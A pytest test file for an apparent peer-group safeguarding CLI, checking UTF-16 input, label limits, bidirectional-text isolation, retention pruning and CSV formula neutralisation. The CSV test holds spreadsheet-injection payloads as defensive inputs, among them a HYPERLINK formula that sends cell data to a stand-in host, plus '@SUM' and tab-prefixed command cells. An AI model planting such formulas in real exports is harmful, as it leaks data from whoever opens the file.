"""Input that is not what the contract hoped for: UTF-16 files, labels thousands of characters
long or reordering the text around them, CSV cells a semicolon locale would run, a clock set by
SOURCE_DATE_EPOCH. Each is read, isolated or refused with an ``ERROR:`` line."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
from cs_peers.cli.app import app
from typer.testing import CliRunner
from workspace_records import kept_runs

from cs_peers.inputs.dataset import FIRST_STRONG_ISOLATE, POP_DIRECTIONAL_ISOLATE
from cs_peers.inputs.validation import MAX_LABEL_LENGTH
from cs_peers.safe_text import neutralise

runner = CliRunner()
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _set_label(folder: Path, person: str, label: str) -> None:
    people = pd.read_csv(folder / "people.csv", dtype=str, keep_default_na=False)
    people.loc[people["id"] == person, "label"] = label
    people.to_csv(folder / "people.csv", index=False)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le"])
def test_utf16_input_is_read_as_the_same_data(tiny_dir: Path, encoding: str) -> None:
    """Excel's "Unicode text" (UTF-16, with or without its byte-order mark) is read, never a
    traceback: the same people, the same fingerprint as the UTF-8 file."""
    before = runner.invoke(app, ["validate", str(tiny_dir)])
    assert before.exit_code == 0
    path = tiny_dir / "people.csv"
    path.write_bytes(path.read_text("utf-8").encode(encoding))
    after = runner.invoke(app, ["validate", str(tiny_dir)])
    assert after.exit_code == 0, after.output
    assert "Traceback" not in after.output
    assert after.stdout == before.stdout


def test_contexts_lc01_and_lc01_lower_never_write_one_file(
    home: Path, tiny_dir: Path, tmp_path: Path
) -> None:
    """On Windows and macOS, LC01.html and lc01.html are one file: names never collide."""
    with (tiny_dir / "contexts.csv").open("a", encoding="utf-8") as f:
        f.write("lc1,location,Another flat\n")
    with (tiny_dir / "associations.csv").open("a", encoding="utf-8") as f:
        f.write("YP08,lc1,frequents,2025-05-03,,police,medium,R97\n")
    out = tmp_path / "pack"
    made = runner.invoke(app, ["pack", str(tiny_dir), "--out", str(out), "--no-pdf", "--runs", "2"])
    assert made.exit_code == 0, made.output
    pages = [p.name for p in (out / "contexts").iterdir()]
    assert len({name.casefold() for name in pages}) == len(pages) == 3, pages


def test_a_2000_character_label_is_refused_with_the_limit(tiny_dir: Path, tmp_path: Path) -> None:
    _set_label(tiny_dir, "YP03", "A" * 2000)
    for command in (
        ["validate", str(tiny_dir)],
        ["assess", str(tiny_dir), "--out", str(tmp_path / "s"), "--no-record"],
    ):
        result = runner.invoke(app, command)
        assert result.exit_code == 1
        assert "people.csv, row 4, column 'label': 'AAAA" in result.stderr
        assert (
            f"this label is 2,000 characters long; a label or name shown on diagrams is at most {MAX_LABEL_LENGTH}"
            in (result.stderr)
        )
    _set_label(tiny_dir, "YP03", "B" * MAX_LABEL_LENGTH)  # at the limit: accepted
    assert runner.invoke(app, ["validate", str(tiny_dir)]).exit_code == 0


@pytest.mark.parametrize("control", ["\u202e", "\u2066", "\u200f", "\n"])
def test_a_label_that_would_reorder_the_text_around_it_is_refused(
    tiny_dir: Path, control: str
) -> None:
    _set_label(tiny_dir, "YP03", f"N.{control}R.")
    result = runner.invoke(app, ["validate", str(tiny_dir)])
    assert result.exit_code == 1
    assert f"contains an invisible control character (U+{ord(control):04X})" in result.stderr


def _packed_data(page: Path) -> str:
    """Return the JSON text a pack's diagram page carries (gzipped, in base64)."""
    found = re.search(
        r'<script id="cs-peers-data" type="[^"]+">(.*?)</script>', page.read_text("utf-8")
    )
    assert found
    return gzip.decompress(base64.b64decode(found.group(1))).decode("utf-8")


def test_a_right_to_left_label_is_isolated_wherever_it_is_written(
    home: Path, tiny_dir: Path, tmp_path: Path
) -> None:
    _set_label(tiny_dir, "YP03", "سارة")
    out = tmp_path / "pack"
    made = runner.invoke(app, ["pack", str(tiny_dir), "--out", str(out), "--runs", "2", "--no-pdf"])
    assert made.exit_code == 0, made.output
    isolated = f"{FIRST_STRONG_ISOLATE}سارة{POP_DIRECTIONAL_ISOLATE}"
    seeds = "".join(p.read_text("utf-8") for p in (out / "assessments").glob("*.md"))
    pages = "".join(p.read_text("utf-8") for p in out.rglob("*.html"))
    diagrams = "".join(_packed_data(p) for p in (out / "diagrams").glob("*.html"))
    for text in (seeds, pages, diagrams):
        assert isolated in text
        assert not re.search(f"(?<!{FIRST_STRONG_ISOLATE})سارة", text)  # never bare


def test_csv_cells_are_neutralised_for_semicolon_and_tab_locales(
    home: Path, tiny_dir: Path, tmp_path: Path
) -> None:
    hostile = 'R1;=HYPERLINK("http://example.invalid/?"&A1)'
    path = tiny_dir / "associations.csv"
    path.write_text(path.read_text("utf-8").replace(",R1\n", f',"{hostile}"\n', 1), "utf-8")
    assert runner.invoke(app, ["groups", str(tiny_dir), "--runs", "2"]).exit_code == 0
    decided = runner.invoke(
        app,
        ["review", "PG-0001", "--status", "confirmed", "--by", "panel",
         "--action", "visit;@SUM(1+1)\tcmd", "--owner", "x;-2+3", "--due", "2027-01-10"],
    )  # fmt: skip
    assert decided.exit_code == 0, decided.output
    exported = runner.invoke(
        app, ["export", str(tiny_dir), "--format", "i2", "--out", str(tmp_path / "i2")]
    )
    assert exported.exit_code == 0, exported.output
    actions = runner.invoke(app, ["actions", "--format", "csv"])
    assert actions.exit_code == 0
    texts = {
        "links.csv": (tmp_path / "i2" / "links.csv").read_text("utf-8"),
        "actions": actions.stdout,
    }
    assert "'=HYPERLINK" in texts["links.csv"] and "'@SUM" in texts["actions"]
    for name, text in texts.items():
        for delimiter in (",", ";", "\t"):  # as a spreadsheet of each locale splits it
            cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
            runnable = [c for c in cells if c.startswith(_TRIGGERS) and neutralise(c) != c]
            assert not runnable, (name, delimiter, runnable)


def test_neutralise_keeps_plain_text_and_numbers() -> None:
    assert neutralise("a;b;c") == "a;b;c"
    assert neutralise("x;-0.5") == "x;-0.5"
    assert neutralise("x;=1+1") == "x;'=1+1"
    assert neutralise("\t=cmd") == "'\t'=cmd"


def test_retention_measures_a_runs_age_by_the_real_clock(
    home: Path, tiny_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Outputs stamped as of 1 January 2000: the run was still kept today.
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "946684800")
    assert runner.invoke(app, ["groups", str(tiny_dir), "--runs", "2"]).exit_code == 0
    (run,) = kept_runs(home)
    assert run.created_at.startswith("2000-01-01")
    pruned = runner.invoke(app, ["prune", "--older-than", "30"])
    assert pruned.exit_code == 0
    assert pruned.stdout.startswith("removed 0 runs")
    assert len(kept_runs(home)) == 1
    # A clock set in the future does not age it either.
    monkeypatch.setenv(
        "SOURCE_DATE_EPOCH", str(int((datetime.now(UTC) + timedelta(days=999)).timestamp()))
    )
    assert runner.invoke(app, ["prune", "--older-than", "30"]).stdout.startswith("removed 0 runs")
    assert len(kept_runs(home)) == 1


def test_a_label_printed_on_its_own_in_a_page_is_a_bdi(
    home: Path, tiny_dir: Path, tmp_path: Path
) -> None:
    assert runner.invoke(app, ["groups", str(tiny_dir), "--runs", "2"]).exit_code == 0
    added = runner.invoke(
        app,
        ["review", "PG-0001", "--status", "confirmed", "--by", "panel", "--add", "YP13",
         "--data", str(tiny_dir)],
    )  # fmt: skip
    assert added.exit_code == 0, added.output
    out = tmp_path / "pack"
    made = runner.invoke(app, ["pack", str(tiny_dir), "--out", str(out), "--runs", "2", "--no-pdf"])
    assert made.exit_code == 0, made.output
    assert "<bdi>P13</bdi> added by review" in (out / "index.html").read_text("utf-8")
